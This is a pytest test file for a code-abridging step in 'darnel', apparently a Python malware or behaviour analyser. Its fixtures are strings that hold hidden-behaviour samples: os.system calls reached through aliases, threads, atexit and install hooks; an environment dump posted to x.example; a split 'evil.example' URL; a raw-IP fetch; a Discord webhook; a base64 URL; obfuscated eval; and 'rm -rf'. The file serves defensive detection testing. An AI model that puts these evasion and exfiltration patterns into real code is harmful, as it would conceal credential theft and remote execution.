"""Of a large file what could hold something stays, at its line, and what is found in it is what the whole shows."""

import os
import subprocess
import sys

import pytest

from darnel.features.languages.python import analyse
from darnel.features.languages.python_pieces import abridge
from darnel.features.limits import DEFAULT_LIMITS

PLAIN = '''
def plain(a, b):
    """Says nothing."""
    total = a + b  # nor does this
    return total * 2
'''

# Each shows something, in a function or by way of one.
SOURCES = {
    "call": "import os\n{plain}\ndef f():\n    os.system('id')\n{plain}",
    "alias": "import subprocess as sp\n{plain}\ndef f():\n    sp.run(['id'])\n{plain}",
    "from": "from os import (\n    path,\n    system as s,\n)\n{plain}\ndef f():\n    s('id')\n{plain}",
    "star": "from os import *\n{plain}\ndef f():\n    system('id')\n{plain}",
    "below": "from urllib.parse import quote\n{plain}\ndef f(x):\n    return quote(x)\n{plain}",
    "assigned": "import os\nrun = os.system\n{plain}\ndef f():\n    run('id')\n{plain}",
    "tuple": "import os\n{plain}\n(f, g) = os.system, 1\n{plain}\ndef h():\n    f('id')\n",
    "within": "import os\nif (f := os.system):\n    x = 1\n{plain}\ndef h():\n    f('id')\n{plain}",
    "with": "import os\nwith (os.system) as f:\n    x = 1\n{plain}\ndef h():\n    f('id')\n{plain}",
    "after a method": (
        "import os\nclass A:\n    def quiet(self):\n        return 1\n\n    run = os.system\n\n"
        "    def f(self):\n        run('id')\n{plain}"
    ),
    "in a block": (
        "import os\nif os:\n    def quiet():\n        return 1\n    run = os.system\n{plain}\ndef f():\n    run('id')\n"
    ),
    "chain": (
        "import os\n{plain}\ndef a():\n    b()\n\ndef b():\n    c()\n\ndef c():\n    d()\n\n"
        "def d():\n    os.system('id')\n\na()\n"
    ),
    "global": ("import os\n{plain}\ndef g():\n    global run\n    run = os.system\n{plain}\ndef f():\n    run('id')\n"),
    "own": (
        "import socket\nclass A:\n    def __init__(self):\n        self.s = socket.socket()\n\n"
        "    def quiet(self):\n        return 1\n\n"
        "    def f(self, d):\n        self.s.connect(('h', 1))\n        self.s.recv(9)\n"
    ),
    "registered": (
        "import atexit\nimport os\n{plain}\nclass A:\n    def __init__(self):\n        atexit.register(f)\n{plain}\n"
        "def f():\n    os.system('id')\n{plain}\nA()\n"
    ),
    "command": (
        "import os\nfrom setuptools.command.install import install\n{plain}\nclass A(install):\n"
        "    def quiet(self):\n        return 1\n\n    def late(self):\n        f()\n{plain}\ndef f():\n"
        "    os.system('id')\n{plain}"
    ),
    "joined": (
        "PARTS = ['h', 't', 'tp', '://', 'evil', '.exam', 'ple/x', '?a=1']\n{plain}\ndef f():\n"
        "    return ''.join(PARTS)\n{plain}"
    ),
    "stored": (
        "import os\nimport requests\nclass A:\n    def quiet(self):\n        return 1\n\n"
        "    def secret(self):\n        return os.environ.copy()\n\n    def fill(self):\n"
        "        self.all = secret(self)\n\n    def send(self):\n        requests.post('https://x.example', self.all)\n"
    ),
    "decorated": (
        "import atexit\n{plain}\n@atexit.register\n@other(\n    1,\n)\ndef f():\n    open('x', 'w').write('a')\n{plain}"
    ),
    "nested": (
        "import os\n{plain}\ndef f():\n    x = 1\n\n    def g():\n        os.system('id')\n\n    return g\n{plain}"
    ),
    "called": "import os\n{plain}\ndef f():\n    os.system('id')\n\ndef g():\n    h()\n\ndef h():\n    f()\n\ng()\n",
    "handed on": (
        "import atexit\nimport os\n{plain}\ndef f():\n    os.system('id')\n\n"
        "def g(x):\n    x.register(f)\n\ng(atexit)\n"
    ),
    "handed on to a thread": (
        "import os\nimport threading\n{plain}\ndef f():\n    os.system('id')\n\n"
        "def g():\n    threading.Thread(\n        target=f\n    ).start()\n\ng()\n"
    ),
    "called over lines": (
        "import os\n{plain}\ndef f():\n    os.system('id')\n\ndef g():\n    return f \\\n    ()\n\n"
        "def h():\n    return (g\n        )()\n\nh()\n"
    ),
    "careless": (
        "import os\n{plain}\ndef f():\n    x = {{\n'a': [{{\n'b': 'one',\n}}],\n    'c': 'two'\n}}\n"
        "    return os.system('id')\n{plain}"
    ),
    "conditional": (
        "import os\nif os.name == 'nt':\n    def f():\n        return 1\nelse:\n    def f():\n        os.system('id')\n"
    ),
    "host": "{plain}\ndef f():\n    return 'hxxp'[:1] + get('http://45.9.148.7/x')\n{plain}",
    "split": "{plain}\ndef f():\n    return ('discord.com/api/'\n        'webhooks/1/a')\n{plain}",
    "encoded": "{plain}\ndef f():\n    return 'aHR0cHM6Ly9leGFtcGxlLnRlc3QvYS9iL2MvZA=='\n{plain}",
    "lookup": "{plain}\ndef f():\n    return getattr(__builtins__, 'ev' + 'al')('1')\n{plain}",
    "text": 'x = """\ndef f():\n    pass\n"""\n{plain}\nimport os\ndef f():\n    os.system("id")\n',
}


def source(name: str) -> bytes:
    return SOURCES[name].format(plain=PLAIN).encode()


@pytest.mark.parametrize("name", SOURCES)
def test_what_is_found_is_what_the_whole_shows(name: str) -> None:
    whole = source(name)
    part = abridge(whole, [lambda text: b"http" in text or b"discord" in text or b"aHR0" in text])
    assert part.count(b"\n") == whole.count(b"\n")

    def seen(data: bytes) -> list[tuple[object, ...]]:
        facts = analyse(data, DEFAULT_LIMITS)
        found = [(o.behaviour, o.line, o.api, o.top, o.hidden) for o in facts.observations]
        return [*found, *sorted((text.value, text.line, text.top) for text in facts.literals)]

    assert seen(whole)
    assert seen(part) == seen(whole)


@pytest.mark.parametrize("name", [name for name in SOURCES if "{plain}" in SOURCES[name]])
def test_functions_without_anything_go(name: str) -> None:
    part = abridge(source(name), [lambda text: b"http" in text or b"discord" in text or b"aHR0" in text])
    assert b"plain" not in part


def test_who_only_says_the_name_of_a_function_does_not_lead_there() -> None:
    whole = (
        "import os\n__all__ = ['f', 'quiet']\n\ndef f():\n    os.system('id')\n\n"
        "def quiet(x, f=1):\n    return x.f + {'f': 2}['f']\n\nquiet(1)\n"
    )
    part = abridge(whole.encode(), [])
    assert b"os.system" in part
    assert b"return x.f" not in part


def test_nothing_is_left_where_nothing_is() -> None:
    assert abridge(PLAIN.encode() * 20, []) == b""


def test_what_shows_only_in_the_whole_stays() -> None:
    whole = b"def f():\n    return 'ab'\n\ndef g():\n    return 'cd'\n"
    part = abridge(whole, [lambda text: b"ab" in text and b"cd" in text])
    assert part.split() == whole.split()


def test_functions_behind_quotes_that_are_not_plain_to_read_stay() -> None:
    whole = PLAIN.encode() + b'import os\nx = \'a\\\n""" b\'\n' + b"def quiet():\n    return 1\nos.system('id')\n"
    part = abridge(whole, [])
    assert b"plain" not in part
    assert b"quiet" in part


def test_a_boundary_inside_a_long_string_cuts_nothing() -> None:
    whole = b"import os\ndef f():\n    os.system('''\ndef g():\n    rm -rf x\n''')\n\ndef quiet():\n    return 1\n"
    part = abridge(whole, [])
    assert b"rm -rf x" in part
    assert b"quiet" not in part


def test_what_leads_there_stays_in_whatever_order_it_is_looked_at() -> None:
    steps = "".join(f"def step{i}(x):\n    return step{i + 1}(x)\n\n" for i in range(9))
    all_named = "ALL = [last, " + ", ".join(f"step{i}" for i in range(10)) + "]\n"
    whole = (
        f"import os\n{steps}def step9(x):\n    return last(x)\n{PLAIN}\ndef last(x):\n    os.system(x)\n\n{all_named}"
    )
    code = "import sys; from darnel.features.languages.python_pieces import abridge; "
    code += "sys.stdout.buffer.write(abridge(sys.stdin.buffer.read(), []))"
    parts = {
        subprocess.run(
            [sys.executable, "-c", code],
            input=whole.encode(),
            env={**os.environ, "PYTHONHASHSEED": seed},
            stdout=subprocess.PIPE,
            check=True,
        ).stdout
        for seed in "0123"
    }
    assert parts == {whole.replace(PLAIN, "\n" * PLAIN.count("\n")).encode()}
